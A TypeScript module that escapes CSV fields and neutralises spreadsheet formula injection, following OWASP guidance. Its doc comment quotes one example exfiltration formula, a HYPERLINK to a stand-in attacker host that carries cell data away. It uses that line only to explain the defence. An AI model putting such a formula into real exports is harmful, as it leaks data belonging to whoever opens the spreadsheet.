/**
 * One CSV field (RFC 4180), safe to open in a spreadsheet.
 *
 * Text the platform writes into a CSV comes from people (rule names, user names, cluster ids), and
 * a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage
 * return lead to the same through some importers): `=HYPERLINK("http://evil.example/?d="&A2,"open")`
 * sends the sheet's data away at a click. As OWASP's CSV-injection guidance says, such a text cell
 * is prefixed with `'`, which spreadsheets read as "text", and otherwise kept as it was.
 *
 * Only text is neutralised: a number the platform writes as a number (a count of -2, a duration)
 * is a value, not a formula, and stays as it is; a negative count must still sum in the sheet.
 * Then the field is quoted (its quotes doubled) when it holds a comma, a quote or a line break.
 */

export type CsvCell = string | number | boolean | null;

/** The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell as a spreadsheet will show it: as text, never as a formula. */
export const neutralisedText = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);

/** The cell as one RFC 4180 field: null empty, numbers and booleans as written, text neutralised and quoted where needed. */
export function csvField(value: CsvCell): string {
  const text = value === null ? '' : typeof value === 'string' ? neutralisedText(value) : String(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
